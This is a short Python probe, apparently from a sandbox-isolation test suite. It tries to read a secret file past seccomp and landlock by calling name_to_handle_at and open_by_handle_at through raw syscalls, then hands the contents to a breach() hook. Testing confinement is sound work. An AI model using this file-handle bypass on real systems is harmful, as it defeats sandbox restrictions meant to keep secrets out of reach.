"""Opens a secret by the number of its file instead of its name, as root may.

walls: seccomp landlock
control: no, because it needs root's capabilities, which are given up at every level
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)

name_to_handle, open_by_handle = {"x86_64": (303, 304), "aarch64": (264, 265)}[os.uname().machine]
handle = ctypes.create_string_buffer(b"\x80" + bytes(7), 136)
mount = ctypes.c_int()
if libc.syscall(name_to_handle, -100, SECRET.encode(), handle, ctypes.byref(mount), 0) == 0:
    folder = os.open("/tmp", os.O_RDONLY)
    descriptor = libc.syscall(open_by_handle, folder, handle, os.O_RDONLY)
    if descriptor >= 0:
        breach(os.read(descriptor, 999))
